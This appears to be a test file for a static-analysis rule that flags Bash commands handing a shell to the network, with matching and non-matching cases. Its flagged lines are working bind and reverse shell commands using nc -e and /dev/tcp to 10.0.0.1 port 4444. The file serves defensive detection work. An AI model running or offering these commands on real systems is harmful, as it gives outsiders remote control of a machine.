#!/bin/bash
# ruleid: bash-shell-given-to-the-network
nc -l -p 4444 -e /bin/bash
# ruleid: bash-shell-given-to-the-network
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ok: bash-shell-given-to-the-network
nc -z host 443
# ok: bash-shell-given-to-the-network
ssh admin@host
# ok: bash-shell-given-to-the-network
socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080
# ruleid: bash-shell-given-to-the-network
exec 5<>/dev/tcp/10.0.0.1/4444
# ok: bash-shell-given-to-the-network
if (exec 3<>/dev/tcp/127.0.0.1/"$PORT") 2>/dev/null; then echo up; fi
# ok: bash-shell-given-to-the-network
exec 3<>/dev/tcp/127.0.0.1/8080
